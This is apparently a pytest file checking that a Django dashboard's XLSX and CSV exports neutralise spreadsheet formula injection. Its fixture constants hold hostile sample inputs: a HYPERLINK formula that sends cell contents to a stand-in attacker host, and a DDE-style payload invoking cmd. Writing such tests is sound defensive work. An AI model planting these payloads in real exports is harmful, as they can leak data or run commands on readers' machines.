"""The dashboard's downloads hold people's text as text: a need titled like a formula is
shown, never run, in the XLSX and the CSV; numbers stay numbers."""

import csv
import io

import openpyxl
import pytest

from cms.dashboard.export import csv_bytes, xlsx_bytes
from cms.dashboard.figures import REGION_COLUMNS, regional_figures, unmatched_needs
from cms.exchange.writer import DirectoryWriter
from cms.models import Voivodeship

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://attacker.invalid/?q="&B6,"Kliknij")'
COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
POWIAT = "-2+3"


@pytest.fixture
def hostile_needs(indexed_directory):
    """A company and a need whose names start like formulas, and a workshop in a powiat
    named like one: what an attacker who can register a company or import a file writes."""
    wielkopolska = Voivodeship.objects.get(teryt="30")
    writer = DirectoryWriter()
    writer.write(
        "workshop",
        {"slug": "wtz-formula", "name": "WTZ", "participants": 12, "voivodeship": wielkopolska}
        | {"powiat": POWIAT},
    )
    writer.write("partner", {"slug": "firma-formula", "name": COMPANY, "voivodeship": wielkopolska})
    writer.write(
        "need",
        {"slug": "potrzeba-formula", "partner": "firma-formula", "title": ATTACK}
        | {"voivodeship": wielkopolska},
    )
    return regional_figures(wielkopolska)


def test_need_titled_like_a_formula_is_text_in_the_xlsx_sheet_of_needs_without_a_match(
    hostile_needs,
):
    workbook = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes(hostile_needs, unmatched_needs(hostile_needs)))
    )
    sheet = workbook.worksheets[2]
    row = next(row for row in sheet.iter_rows(min_row=6) if row[0].value == ATTACK)
    title, company = row[0], row[1]
    assert (title.data_type, company.data_type) == ("s", "s")
    assert title.quotePrefix and company.quotePrefix
    assert company.value == COMPANY
    # The day it was posted is still a date, not text.
    assert row[2].is_date


def test_powiat_named_like_a_formula_is_text_and_its_numbers_stay_numbers(hostile_needs):
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(hostile_needs)))
    regions = workbook.worksheets[0]
    row = next(row for row in regions.iter_rows(min_row=6) if row[0].value == POWIAT)
    assert row[0].data_type == "s" and row[0].quotePrefix
    participants = row[3]
    assert regions.cell(5, participants.column).value == str(REGION_COLUMNS[1].label)
    assert (participants.value, participants.data_type) == (12, "n")
    assert not participants.quotePrefix


def test_csv_puts_an_apostrophe_before_text_that_starts_like_a_formula_only(hostile_needs):
    text = csv_bytes(hostile_needs, "regions").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    row = next(row for row in rows if row[0].endswith(POWIAT))
    assert row[0] == f"'{POWIAT}"
    assert row[3] == "12"
    assert all(not cell.startswith("'") for line in rows if line is not row for cell in line)
